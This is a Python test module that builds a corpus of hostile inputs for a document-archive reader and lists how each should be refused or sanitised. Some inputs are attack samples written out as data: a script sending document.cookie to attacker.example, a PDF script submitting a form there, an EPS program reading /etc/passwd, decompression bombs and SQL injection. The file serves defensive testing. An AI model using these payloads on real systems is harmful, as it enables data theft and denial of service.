"""The hostile-input corpus: what a forger could hand a reader, generated at test time, never committed.

Every case is declared once in `CASES` (id, group, the hostile input, the behaviour the tests assert)
next to the function that makes it, so the tests, tests/README.md and the generated files cannot drift
apart (tests/hostile/test_readme.py checks the README against this list). The bytes are made here from
scratch, deterministically, with the same libraries a forger would use (Pillow, pypdf, our own minisign
writer), so a reviewer can read how each one is built instead of trusting a binary blob.

    python -m tests.hostile.corpus OUT_DIR   # write every file-shaped case out, to inspect or fuzz further

The archive cases are made by damaging a built archive (tests/hostile/forge.py), since they need one.
"""

from __future__ import annotations

import base64
import io
import json
import random
import struct
import sys
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from PIL import Image
from pypdf import PdfWriter
from pypdf.annotations import Link
from pypdf.generic import DictionaryObject, NameObject, StreamObject, TextStringObject

from archive.signing import minisign


@dataclass(frozen=True)
class Case:
    id: str
    group: str  # signature, key, archive, image, html, pdf, query
    what: str  # the hostile input
    expect: str  # what the tests assert (message, or safe rendering), as listed in tests/README.md


CASES: dict[str, Case] = {}
MAKERS: dict[str, Callable] = {}


def case(group: str, case_id: str, what: str, expect: str) -> Callable:
    """Register a generator (or, for archive and query cases, just the declaration) under `case_id`."""
    CASES[case_id] = Case(case_id, group, what, expect)

    def register(make: Callable) -> Callable:
        MAKERS[case_id] = make
        return make
    return register


def cases(group: str) -> list[Case]:
    return [c for c in CASES.values() if c.group == group]


# --- signature (.minisig) files --------------------------------------------------------------------
# Each maker takes (key, other_key, good) where good is a valid .minisig text by `key` over b"data".

SIGNED_DATA = b"the bytes the publisher signed\n"


def good_signature(key: minisign.SecretKey) -> str:
    return minisign.sign_bytes(SIGNED_DATA, key, "timestamp:1700000000\tfile:data").to_file_text()


def _lines(text: str) -> list[str]:
    return text.rstrip("\n").split("\n")


def _struct(line: str) -> bytes:
    return base64.b64decode(line)


def _b64(data: bytes) -> str:
    return base64.b64encode(data).decode("ascii")


@case("signature", "sig-bad-base64", "signature line with a character outside base64",
      "SignatureInvalid: 'not valid base64'")
def _sig_bad_base64(key, other, good):
    lines = _lines(good)
    lines[1] = lines[1][:10] + "*" + lines[1][11:]
    return "\n".join(lines) + "\n"


@case("signature", "sig-wrong-length", "signature struct 8 bytes short (valid base64)",
      "SignatureInvalid: 'decodes to 66 bytes; it should be 74'")
def _sig_wrong_length(key, other, good):
    lines = _lines(good)
    lines[1] = _b64(_struct(lines[1])[:-8])
    return "\n".join(lines) + "\n"


@case("signature", "sig-extra-line", "a fifth line after the global signature",
      "SignatureInvalid: 'has 4 lines; this one has 5'")
def _sig_extra_line(key, other, good):
    return good + "untrusted comment: and one more line\n"


@case("signature", "sig-huge-comment", "a 60 KB untrusted comment (minisign reads 1 KB)",
      "SignatureInvalid: 'longer than 8192 bytes'")
def _sig_huge_comment(key, other, good):
    lines = _lines(good)
    lines[0] = "untrusted comment: " + "A" * 60_000
    return "\n".join(lines) + "\n"


@case("signature", "sig-oversized-file", "a 10 MB signature file",
      "SignatureInvalid: 'too large for a signature file', refused before it is read")
def _sig_oversized(key, other, good):
    return good + "x" * 10_000_000


@case("signature", "sig-control-comment", "an escape sequence (ESC [2J) in the trusted comment",
      "SignatureInvalid: 'a control character (U+001B)'")
def _sig_control(key, other, good):
    lines = _lines(good)
    lines[2] = "trusted comment: approved\x1b[2J by the court"
    return "\n".join(lines) + "\n"


@case("signature", "sig-bidi-comment", "a right-to-left override (U+202E) in the trusted comment",
      "SignatureInvalid: 'bidi control character (U+202E)'")
def _sig_bidi(key, other, good):
    lines = _lines(good)
    lines[2] = "trusted comment: file:\u202egpj.exe"
    return "\n".join(lines) + "\n"


@case("signature", "sig-legacy-ed", "a legacy 'Ed' (not prehashed) signature",
      "SignatureInvalid: 'legacy signature format, not accepted'")
def _sig_legacy(key, other, good):
    lines = _lines(good)
    lines[1] = _b64(b"Ed" + _struct(lines[1])[2:])
    return "\n".join(lines) + "\n"


@case("signature", "sig-another-key", "a well-formed signature made by another key",
      "SignatureInvalid: 'signed by another key (key id …)'")
def _sig_another_key(key, other, good):
    return good_signature(other)


@case("signature", "sig-altered-comment", "the trusted comment edited after signing",
      "SignatureInvalid: 'trusted comment was altered'")
def _sig_altered(key, other, good):
    lines = _lines(good)
    lines[2] = lines[2] + " (edited)"
    return "\n".join(lines) + "\n"


# --- key files --------------------------------------------------------------------------------------
# Each maker takes (key, other_key) and returns the text of a public (.pub) or secret (.key) file.

@case("key", "pub-bad-base64", "public key line that is not base64", "KeyFileError: 'not valid base64'")
def _pub_bad_base64(key, other):
    return "untrusted comment: minisign public key\nRWQ!!!!not-base64!!!!\n"


@case("key", "pub-wrong-length", "public key struct of 41 bytes instead of 42",
      "KeyFileError: 'decodes to 41 bytes; it should be 42'")
def _pub_wrong_length(key, other):
    return f"untrusted comment: minisign public key\n{_b64(b'Ed' + key.key_id + bytes(31))}\n"


@case("key", "pub-extra-lines", "public key file with a third line",
      "KeyFileError: 'has 2 lines; this one has 3'")
def _pub_extra_lines(key, other):
    return key.public_key.to_file_text() + "RWQ=\n"


@case("key", "pub-bidi-comment", "public key comment with a left-to-right isolate (U+2066)",
      "KeyFileError: 'bidi control character (U+2066)'")
def _pub_bidi(key, other):
    lines = _lines(key.public_key.to_file_text())
    return f"untrusted comment: Court \u2066registry\u2069 key\n{lines[1]}\n"


@case("key", "pub-weak-key", "public key of small order (one signature would verify every file)",
      "KeyFileError: 'weak or malformed point'")
def _pub_weak(key, other):
    return f"untrusted comment: weak\n{_b64(b'Ed' + key.key_id + bytes([1]) + bytes(31))}\n"


@case("key", "key-scrypt-bomb", "secret key asking scrypt for 2^40 bytes of memory",
      "KeyFileError: 'asks scrypt for …', refused at once without deriving anything")
def _key_scrypt_bomb(key, other):
    struct_ = _struct(_lines(key.to_file_text(None))[1])
    forged = struct_[:2] + minisign.KDF_SCRYPT + struct_[4:38] + (2**40).to_bytes(8, "little") * 2 + struct_[54:]
    return f"untrusted comment: bomb\n{_b64(forged)}\n"


# --- images -----------------------------------------------------------------------------------------

def _png_chunk(kind: bytes, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload)) + kind + payload + struct.pack(">I", zlib.crc32(kind + payload))


def png_bomb(edge: int) -> bytes:
    """A real edge x edge PNG (1-bit grey, all black): a few KB that decode to edge² pixels."""
    row = b"\x00" + bytes((edge + 7) // 8)
    packer = zlib.compressobj(9)
    rows_per_chunk = max(1, 4_000_000 // len(row))
    idat = b"".join(packer.compress(row * min(rows_per_chunk, edge - start))
                    for start in range(0, edge, rows_per_chunk)) + packer.flush()
    ihdr = struct.pack(">IIBBBBB", edge, edge, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", ihdr) + _png_chunk(b"IDAT", idat) + _png_chunk(b"IEND", b"")


@case("image", "img-bomb-10000", "10000 x 10000 PNG (100 Mpx in a few KB)",
      "message 'refused as a decompression bomb'; placeholder in reports")
def _bomb_10000():
    return png_bomb(10_000)


@case("image", "img-bomb-20000", "20000 x 20000 PNG (400 Mpx in a few KB)",
      "message 'refused as a decompression bomb'")
def _bomb_20000():
    return png_bomb(20_000)


@case("image", "img-eps-as-png", "an EPS (PostScript) program stored as image/png, named .png",
      "message 'not an image in an accepted format': Ghostscript is never reached")
def _eps_as_png():
    return (b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 100 100\n"
            b"(/etc/passwd) (r) file 100 string readstring pop print\nshowpage\n%%EOF\n")


def _noise_image(size: tuple[int, int], fmt: str, **options) -> bytes:
    rng = random.Random(9)
    image = Image.frombytes("RGB", size, bytes(rng.getrandbits(8) for _ in range(size[0] * size[1] * 3)))
    out = io.BytesIO()
    image.save(out, fmt, **options)
    return out.getvalue()


@case("image", "img-truncated-jpeg", "a JPEG cut off at 60 % of its bytes", "message 'damaged image'")
def _truncated_jpeg():
    data = _noise_image((320, 240), "JPEG", quality=90)
    return data[: len(data) * 6 // 10]


def huge_exif_tiff(entries: int = 20_000, value_bytes: int = 60, description_bytes: int = 1_000_000) -> bytes:
    """A little-endian TIFF/EXIF block: a `description_bytes` ImageDescription, then `entries` more
    ASCII tags of `value_bytes` each. Every value has its own bytes: Pillow skips tags whose data
    overlap, so only distinct values make a really large block."""
    offset = 8 + 2 + 12 * (entries + 1) + 4
    table, values = bytearray(), bytearray()
    for n, (tag, size) in enumerate([(0x010E, description_bytes)] + [(0xB000 + n, value_bytes) for n in range(entries)]):
        table += struct.pack("<HHII", tag, 2, size, offset + len(values))
        values += (b"D" if n == 0 else b"E") * (size - 1) + b"\x00"
    return b"II*\x00" + struct.pack("<IH", 8, entries + 1) + bytes(table) + struct.pack("<I", 0) + bytes(values)


@case("image", "img-huge-exif", "a 64 x 64 PNG with a 2.5 MB eXIf chunk: a 1 MB description and 20,000 more fields",
      "shown; at most 200 EXIF fields of at most 500 characters each, in seconds")
def _huge_exif():
    image = Image.new("RGB", (64, 64), (10, 120, 200))
    out = io.BytesIO()
    image.save(out, "PNG")
    png = out.getvalue()
    end = png.rindex(b"IEND") - 4
    return png[:end] + _png_chunk(b"eXIf", huge_exif_tiff()) + png[end:]


# --- HTML reports -----------------------------------------------------------------------------------

@case("html", "html-remote-img", "<img> from http, https and protocol-relative URLs, srcset too",
      "no remote URL in the sanitised markup; the image is the placeholder, nothing is fetched")
def _remote_img():
    return ('<p>Tracking pixel <img src="https://tracker.example/p.gif?id=reader" alt="pixel">'
            '<img src="//cdn.example/x.png"><img srcset="http://a.example/1x.png 1x" src="http://a.example/x.png">'
            '</p>')


@case("html", "html-remote-link", "<link rel=stylesheet> to a remote and a local stylesheet, <base href>",
      "no link, base or remote URL left; nothing is fetched")
def _remote_link():
    return ('<head><base href="http://attacker.example/"><link rel="stylesheet" href="https://attacker.example/s.css">'
            '<link rel="stylesheet" href="file:///etc/passwd"></head><p>Body text</p>')


@case("html", "html-css-url", "CSS url() and @import in a style element and a style attribute",
      "no style left; nothing is fetched")
def _css_url():
    return ('<style>@import url("http://attacker.example/a.css"); body {background: url(https://x.example/b.png)}'
            '</style><p style="background-image: url(\'file:///dev/zero\')">Styled paragraph</p>')


@case("html", "html-dev-zero", "<img src=file:///dev/zero> (reading it would never end)",
      "placeholder image; /dev/zero is never opened")
def _dev_zero():
    return '<p>Infinite file <img src="file:///dev/zero" alt="zero"> <img src="/dev/zero"></p>'


@case("html", "html-nested-tables", "tables nested 25 deep", "shown, nesting capped at 64 elements, in seconds")
def _nested_tables():
    return "<table><tr><td>" * 25 + "deep cell" + "</td></tr></table>" * 25


@case("html", "html-10mb-line", "a 10 MB report on one line, no markup breaks",
      "shown, truncated at 5,000,000 characters with a note, in seconds")
def _ten_mb_line():
    return "<p>" + "evidence " * (10_000_000 // 9) + "</p>"


@case("html", "html-script", "<script> in head and body, an inline event handler, <iframe>, <object>",
      "no script, handler, iframe or object in the markup; their text is not shown")
def _script():
    return ('<head><script>fetch("http://attacker.example/?"+document.cookie)</script></head>'
            '<body onload="alert(1)"><p>Visible</p><script>alert("body")</script>'
            '<iframe src="http://attacker.example/"></iframe><object data="x.swf">fallback</object></body>')


@case("html", "html-javascript-links", "javascript:, vbscript: and data: links, with tab and entity tricks",
      "the links are dropped (text kept); clicking them does nothing")
def _javascript_links():
    return ('<p><a href="javascript:alert(1)">one</a> <a href="JaVaScRiPt:alert(2)">two</a> '
            '<a href="java\tscript:alert(3)">three</a> <a href="&#106;avascript:alert(4)">four</a> '
            '<a href="vbscript:msgbox(5)">five</a> <a href="data:text/html,<script>alert(6)</script>">six</a></p>')


# --- PDF reports ------------------------------------------------------------------------------------

def _pdf(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _text_page(writer: PdfWriter, text: str, size: tuple[float, float] = (612, 792)) -> None:
    font = writer._add_object(DictionaryObject({
        NameObject("/Type"): NameObject("/Font"), NameObject("/Subtype"): NameObject("/Type1"),
        NameObject("/BaseFont"): NameObject("/Helvetica")}))
    page = writer.add_blank_page(*size)
    page[NameObject("/Resources")] = DictionaryObject(
        {NameObject("/Font"): DictionaryObject({NameObject("/F1"): font})})
    content = StreamObject()
    content.set_data(f"BT /F1 12 Tf 72 {size[1] - 72} Td ({text}) Tj ET".encode("ascii"))
    page[NameObject("/Contents")] = writer._add_object(content)


@case("pdf", "pdf-javascript", "document-level JavaScript that would submit a form to a remote server",
      "shown (1 page), the script never runs: QtPdf has no JavaScript engine")
def _pdf_javascript():
    writer = PdfWriter()
    _text_page(writer, "Report with a script")
    action = DictionaryObject({NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject(
        'this.submitForm("http://attacker.example/collect"); app.launchURL("http://attacker.example/");')})
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)
    return _pdf(writer)


@case("pdf", "pdf-uri-action", "a link annotation with a URI action over the whole page",
      "shown; the link is not followed")
def _pdf_uri():
    writer = PdfWriter()
    _text_page(writer, "Click anywhere")
    writer.add_annotation(0, Link(rect=(0, 0, 612, 792), url="http://attacker.example/track"))
    return _pdf(writer)


@case("pdf", "pdf-garbage", "'%PDF-1.7' followed by 64 KB of random bytes",
      "message 'damaged or not a PDF'")
def _pdf_garbage():
    return b"%PDF-1.7\n" + random.Random(7).randbytes(65_536)


@case("pdf", "pdf-encrypted", "an AES-256 encrypted PDF with an unknown password", "message 'it is encrypted'")
def _pdf_encrypted():
    writer = PdfWriter()
    _text_page(writer, "Secret")
    writer.encrypt(user_password="unknown to the reader", algorithm="AES-256")
    return _pdf(writer)


@case("pdf", "pdf-huge-page", "a 14400 x 14400 pt page (200 inches, the PDF maximum)",
      "shown; no zoom renders it larger than 6000 px")
def _pdf_huge_page():
    writer = PdfWriter()
    _text_page(writer, "Enormous page", (14_400, 14_400))
    return _pdf(writer)


# --- archives (made by forge.py from a built archive) ----------------------------------------------

for _id, _what, _expect in [
    ("arc-not-a-database", "a text file named .casefile", "NotAnArchive: 'not an SQLite database'"),
    ("arc-empty", "an empty file", "NotAnArchive: 'not an SQLite database'"),
    ("arc-truncated", "the first half of an archive", "ArchiveDamaged: 'truncated'"),
    ("arc-bit-flips", "200 random bit flips in the pages after the header (5 seeds)",
     "opens and reads, or only CasefileErrors naming the damage; never another exception"),
    ("arc-flipped-original", "one bit flipped inside an original of a signed archive",
     "verify: TAMPERED, naming blob: and the item images/chart"),
    ("arc-wal", "an archive switched to WAL journal mode", "UnsafeArchive: 'WAL journal mode'"),
    ("arc-application-id", "application_id of a GeoPackage", "NotAnArchive: 'application_id 0x47504b47'"),
    ("arc-newer-format", "user_version 99", "UnsupportedVersion: 'format 99 … newer Casefile'"),
    ("arc-extra-table", "an extra table 'payload'", "UnsafeArchive: \"'payload'\""),
    ("arc-view-functions", "a view calling zeroblob() and load_extension()", "UnsafeArchive: 'view'"),
    ("arc-trigger-functions", "a trigger calling load_extension()", "UnsafeArchive: 'trigger'"),
    ("arc-fts-tokenizer", "the full-text table re-declared with another tokenizer",
     "UnsafeArchive: 'full-text index is not declared'"),
    ("arc-1gb-blob", "a real 999,999,000-byte original whose size column says 1234",
     "opens; reading it raises LimitExceeded 'larger than allowed' in under 2 s; the rest still reads"),
    ("arc-forged-signature", "the stored signature replaced by a legacy 'Ed' one",
     "verify: UNSIGNED (reason legacy-signature), 'legacy signature format, not accepted'"),
    ("arc-huge-metadata", "1,000,000 EXIF fields and a 20 MB caption in an image's rows",
     "the image shows with at most 200 fields, in seconds"),
    ("arc-slow-query", "a recursive query that would never end", "LimitExceeded 'took longer than'; then usable"),
]:
    case("archive", _id, _what, _expect)


# --- queries ------------------------------------------------------------------------------------------

QUERIES = {
    "query-deep-nesting": "(" * 300 + "chen" + ")" * 300,
    "query-too-long": "chen " * 50_000,
    "query-too-many-terms": " OR ".join(f"t{i}" for i in range(100)),
    "query-fuzzy-flood": " ".join(f"{word}~2" for word in ("chen", "quan", "xpcc", "kash", "report") * 12),
    "query-fts5-injection": 'chen" OR NEAR(a b, 99999999) OR "x* {title body}: y ^z',
    "query-sql-injection": "x' OR 'zz'='zz'; DROP TABLE items; --",
    "query-controls": "chen\x00\x1b[2J\u202equanguo\ufeff",
    "query-lone-star": "*",
}
for _id, _what, _expect in [
    ("query-deep-nesting", "300 nested parentheses", "QueryError 'nested more than 16 deep', in under 1 s"),
    ("query-too-long", "a 250,000-character query", "QueryError 'characters long; the limit is 1000'"),
    ("query-too-many-terms", "100 words ORed together", "QueryError 'the limit is 64'"),
    ("query-fuzzy-flood", "60 two-edit fuzzy words, each expanded from the archive's vocabulary",
     "runs, or QueryError naming the term limit, in under 1 s"),
    ("query-fts5-injection", "FTS5 syntax (NEAR, column filters, ^, *) inside quotes and words",
     "runs as literal words or QueryError, in under 1 s; the archive still searches"),
    ("query-sql-injection", "SQL injection text", "runs as literal words (no hit), items still there"),
    ("query-controls", "NUL, escape sequence, bidi override and BOM in a query",
     "runs or QueryError, in under 1 s"),
    ("query-lone-star", "a lone *", "QueryError 'would match everything'"),
]:
    case("query", _id, _what, _expect)


def file_cases() -> dict[str, tuple[str, bytes]]:
    """Every case that is a file by itself, as name -> (suggested file name, bytes), keys made fresh."""
    key, other = minisign.SecretKey.generate(), minisign.SecretKey.generate()
    good = good_signature(key)
    suffix = {"image": ".png", "html": ".html", "pdf": ".pdf"}
    out = {}
    for item in CASES.values():
        make = MAKERS.get(item.id)
        if item.group == "signature":
            out[item.id] = (f"{item.id}.minisig", make(key, other, good).encode("utf-8"))
        elif item.group == "key":
            out[item.id] = (f"{item.id}{'.key' if item.id.startswith('key-') else '.pub'}",
                            make(key, other).encode("utf-8"))
        elif make is not None:
            data = make()
            out[item.id] = (item.id + suffix[item.group], data.encode("utf-8") if isinstance(data, str) else data)
    out["query-all"] = ("queries.json", json.dumps(QUERIES, ensure_ascii=False, indent=1).encode("utf-8"))
    return out


def main(argv: list[str]) -> int:
    if len(argv) != 1:
        print("usage: python -m tests.hostile.corpus OUT_DIR", file=sys.stderr)
        return 2
    folder = Path(argv[0])
    folder.mkdir(parents=True, exist_ok=True)
    for name, data in file_cases().values():
        (folder / name).write_bytes(data)
    print(f"wrote {len(list(folder.iterdir()))} files to {folder}; {len(CASES)} cases in all")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
